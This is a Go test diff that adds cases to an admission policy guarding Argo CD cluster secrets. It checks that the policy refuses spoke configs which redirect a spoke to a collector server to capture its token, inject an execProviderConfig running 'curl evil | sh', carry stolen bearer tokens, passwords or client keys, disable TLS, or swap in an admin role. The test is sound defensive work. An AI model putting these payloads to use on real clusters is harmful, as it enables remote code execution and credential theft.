@@ -78,8 +78,21 @@ func field(obj map[string]any, path ...string) map[string]any {
 // the rest.
 func TestClusterSecretGuard(t *testing.T) {
 	hub, spoke := fleetSecrets(t)
+	spokeB := edited(t, spoke, func(o map[string]any) {
+		field(o, "stringData")["name"] = "spoke-b"
+		field(o, "metadata", "labels")["cluster_name"] = "spoke-b"
+		field(o, "stringData")["config"] = gitopsbridge.SpokeConfig("spoke-b", spokeRole, "Q0EgZGF0YQ==")
+	})
 	p := gitopsbridge.ClusterSecretGuard{Namespace: argocdNamespace, HubClusterName: "hub",
-		ControllerServiceAccount: gitopsbridge.ApplicationControllerServiceAccount}.Policy()
+		ControllerServiceAccount: gitopsbridge.ApplicationControllerServiceAccount,
+		Spokes: []gitopsbridge.Registration{
+			gitopsbridge.SpokeRegistration("spoke-b", spokeServer, spokeRole, "Q0EgZGF0YQ=="),
+			gitopsbridge.SpokeRegistration("spoke-a", spokeServer, spokeRole, "Q0EgZGF0YQ=="),
+		}}.Policy()
+	spokeConfig := func(config string) map[string]any {
+		return edited(t, spoke, func(o map[string]any) { field(o, "stringData")["config"] = config })
+	}
+	const exact = "exactly the one GitOpsBridge writes"
 	argocdSecret := map[string]any{"apiVersion": "v1", "kind": "Secret",
 		"metadata":   map[string]any{"name": "argocd-secret", "namespace": argocdNamespace},
 		"stringData": map[string]any{"admin.password": "$2a$10$evil"}}
@@ -88,9 +101,42 @@ func TestClusterSecretGuard(t *testing.T) {
 		user string
 		want string // "" admitted, else part of the refusal
 	}{
-		"the hub's own secret, from Git":      {obj: hub, user: controller},
-		"the hub's own secret, from Pulumi":   {obj: hub, user: "kubernetes-admin"},
-		"a spoke's secret, from Git":          {obj: spoke, user: controller},
+		"the hub's own secret, from Git":    {obj: hub, user: controller},
+		"the hub's own secret, from Pulumi": {obj: hub, user: "kubernetes-admin"},
+		"a spoke's secret, from Git":        {obj: spoke, user: controller},
+		"another spoke's secret, from Git":  {obj: spokeB, user: controller},
+		"an unregistered cluster, from Pulumi (push mode)": {user: "kubernetes-admin",
+			obj: edited(t, spoke, func(o map[string]any) { field(o, "stringData")["name"] = "elsewhere" })},
+		"an unregistered cluster, from a registry commit": {user: controller, want: exact,
+			obj: edited(t, spoke, func(o map[string]any) {
+				field(o, "stringData")["name"] = "rogue"
+				field(o, "metadata", "labels")["cluster_name"] = "rogue"
+			})},
+		"a spoke's name on the writer's server, which would receive the spoke role's token": {user: controller,
+			want: exact, obj: edited(t, spoke, func(o map[string]any) {
+				field(o, "stringData")["server"] = "https://collector.example.com"
+			})},
+		"a spoke's config with execProviderConfig (a command Argo CD runs)": {user: controller, want: exact,
+			obj: spokeConfig(`{"execProviderConfig":{"command":"sh","args":["-c","curl evil | sh"],"apiVersion":` +
+				`"client.authentication.k8s.io/v1beta1"},"tlsClientConfig":{"caData":"Q0EgZGF0YQ=="}}`)},
+		"a spoke's config with a bearer token": {user: controller, want: exact,
+			obj: spokeConfig(`{"bearerToken":"stolen","tlsClientConfig":{"caData":"Q0EgZGF0YQ=="}}`)},
+		"a spoke's config with a password": {user: controller, want: exact,
+			obj: spokeConfig(`{"username":"admin","password":"x","tlsClientConfig":{"caData":"Q0EgZGF0YQ=="}}`)},
+		"a spoke's config with a client key": {user: controller, want: exact,
+			obj: spokeConfig(`{"tlsClientConfig":{"caData":"Q0EgZGF0YQ==","certData":"Y2VydA==","keyData":"a2V5"}}`)},
+		"a spoke's config without TLS verification": {user: controller, want: exact,
+			obj: spokeConfig(`{"awsAuthConfig":{"clusterName":"spoke-a","roleARN":"` + spokeRole + `"},` +
+				`"tlsClientConfig":{"insecure":true}}`)},
+		"a spoke's config with another role": {user: controller, want: exact,
+			obj: spokeConfig(gitopsbridge.SpokeConfig("spoke-a", "arn:aws:iam::999999999999:role/admin", "Q0EgZGF0YQ=="))},
+		"a spoke's config with an appended key": {user: controller, want: exact,
+			obj: spokeConfig(strings.TrimSuffix(gitopsbridge.SpokeConfig("spoke-a", spokeRole, "Q0EgZGF0YQ=="), "}") +
+				`,"execProviderConfig":{"command":"sh"}}`)},
+		"a spoke whose cluster_name label names another cluster": {user: controller, want: exact,
+			obj: edited(t, spoke, func(o map[string]any) { field(o, "metadata", "labels")["cluster_name"] = "spoke-b" })},
+		"the hub's secret under another cluster_name label": {user: controller, want: exact,
+			obj: edited(t, hub, func(o map[string]any) { field(o, "metadata", "labels")["cluster_name"] = "spoke-a" })},
 		"argocd-secret, from Argo CD's chart": {obj: argocdSecret, user: "kubernetes-admin"},
 		"argocd-secret, from a registry commit": {obj: argocdSecret, user: controller,
 			want: "may write only cluster secrets"},
